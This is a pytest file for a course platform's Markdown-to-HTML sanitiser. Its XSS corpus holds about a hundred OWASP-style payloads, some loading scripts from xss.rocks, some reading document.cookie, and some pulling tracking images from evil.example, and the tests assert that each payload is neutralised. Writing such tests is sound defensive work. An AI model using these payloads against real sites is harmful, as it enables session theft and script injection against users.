"""Markdown -> safe HTML: features that must work, and a corpus of known XSS payloads
(OWASP XSS filter evasion cheat sheet style, plus Markdown-specific ones) that must not."""

import html
import re
from html.parser import HTMLParser

import pytest

from app.courses import content

FILES = "/courses/khoa/files/"

XSS = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<script>alert('XSS')</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/"
    "onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<a href=\"#\" style=\"position:fixed;inset:0\">overlay</a>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3Jn"
    "LzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" "
    "AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<img src=\"https://tracker.example/p.gif\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    # Markdown-specific
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x\" onerror=\"alert(1)](x.png)",
    "[x](x.png \"t\\\" onmouseover=\\\"alert(1)\")",
    "```\n</code><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <iframe src=\"//evil.example\"></iframe>",
    "* <a href=\"javascript:alert(1)\" onclick=\"alert(2)\">x</a>",
]

BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha):", re.IGNORECASE)


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _parse(out: str):
    parser = _Collector()
    parser.feed(out)
    parser.close()
    return parser.tags


def _assert_safe(out: str, where: str) -> None:
    assert "<script" not in out.lower(), where
    for tag, attrs in _parse(out):
        assert tag in content.TAGS | {"div"}, f"{where}: tag {tag}"
        if tag == "div":  # the scrolling wrapper added around tables
            assert attrs == [("class", "table-responsive")], where
            continue
        for name, value in attrs:
            allowed = content.ATTRIBUTES.get(tag, set()) | {"class", "loading", "rel", "align"}
            assert name in allowed, f"{where}: {tag}[{name}]"
            assert not name.startswith("on"), where
            assert name != "style", where
            if name in ("href", "src") and value is not None:
                # as a browser reads a URL: outer blanks dropped, tabs and newlines removed
                cleaned = re.sub(r"[\t\n\r]", "", html.unescape(value).strip("\x00\x20\x0c"))
                assert not BAD_SCHEME.match(cleaned), f"{where}: {name}={value}"
                if tag == "img":
                    assert not re.match(r"^([a-z][a-z0-9+.-]*:|//|\\\\)", cleaned, re.I), \
                        f"{where}: off-origin image {value}"


@pytest.mark.parametrize("payload", XSS)
def test_xss_payloads_are_neutralised(payload):
    out = content.render_markdown(payload, FILES)
    _assert_safe(out, payload)
    # sanitising the output again changes nothing (no mutation-based XSS)
    again = content.sanitise(out, FILES)
    assert _shape(again) == _shape(out), payload


def _shape(out: str):
    return [(tag, sorted(attrs)) for tag, attrs in _parse(out) if tag != "div"]


@pytest.mark.parametrize("payload", XSS)
def test_xss_payloads_inside_markdown_structure(payload):
    source = f"# Tiêu đề\n\n- mục {payload}\n\n| cột |\n|---|\n| {payload} |\n\n> {payload}\n"
    _assert_safe(content.render_markdown(source, FILES), payload)


def test_markdown_features_survive():
    source = (
        "# Tiêu đề\n\n## Mục\n\nĐoạn có **đậm**, *nghiêng*, `mã` và [liên kết](https://"
        "thuvienphapluat.vn/van-ban) và [tệp](files/bieu-mau.pdf).\n\n"
        "- một\n- hai\n\n1. thứ nhất\n2. thứ hai\n\n"
        "| Chỉ tiêu | Mức |\n|:--|--:|\n| Hộ nghèo | 1-1,5% |\n\n"
        "![Sơ đồ](files/so-do.png)\n\n> Trích dẫn\n\n```\nmã\n```\n")
    out = content.render_markdown(source, FILES)
    for fragment in ('<h1 class="h4">Tiêu đề</h1>', '<h2 class="h5">Mục</h2>',
                     "<strong>đậm</strong>", "<em>nghiêng</em>", "<code>mã</code>",
                     'href="https://thuvienphapluat.vn/van-ban"', 'rel="noopener noreferrer"',
                     'href="/courses/khoa/files/bieu-mau.pdf"', "<li>một</li>",
                     "<ol>", '<div class="table-responsive"><table class="table table-sm',
                     '<th align="left">Chỉ tiêu</th>', '<td align="right">1-1,5%</td>',
                     'src="/courses/khoa/files/so-do.png"', 'alt="Sơ đồ"', 'loading="lazy"',
                     "<blockquote>", "<pre><code>mã"):
        assert fragment in out, fragment


def test_file_links_are_found_and_rewritten():
    source = "[a](files/a.pdf) ![b](../files/b.png) [c](./files/c%20d.docx) [x](other.pdf)"
    assert content.file_links(source) == ["a.pdf", "b.png", "c d.docx"]
    out = content.render_markdown(source, FILES)
    assert 'href="/courses/khoa/files/a.pdf"' in out
    assert 'src="/courses/khoa/files/b.png"' in out
    assert 'href="/courses/khoa/files/c%20d.docx"' in out
    assert 'href="other.pdf"' in out


def test_cache_is_reused_until_the_source_changes():
    html_a, hash_a = content.cached("**a**", FILES, "", "")
    assert "<strong>a</strong>" in html_a
    # same source: the cached text is returned as is (not rendered again)
    assert content.cached("**a**", FILES, "CACHED", hash_a) == ("CACHED", hash_a)
    html_b, hash_b = content.cached("**b**", FILES, "CACHED", hash_a)
    assert hash_b != hash_a and "<strong>b</strong>" in html_b
    # another course (files base) or another renderer version is another cache key
    assert content.source_hash("**a**", "/courses/other/files/") != hash_a


def test_unsafe_markup_hint():
    assert content.has_unsafe_markup("<script>alert(1)</script>")
    assert content.has_unsafe_markup('<img src=x onerror="x">')
    assert content.has_unsafe_markup("[a](javascript:alert(1))")
    assert not content.has_unsafe_markup("## Bài 1\n\nNội dung **bình thường**, a < b.")
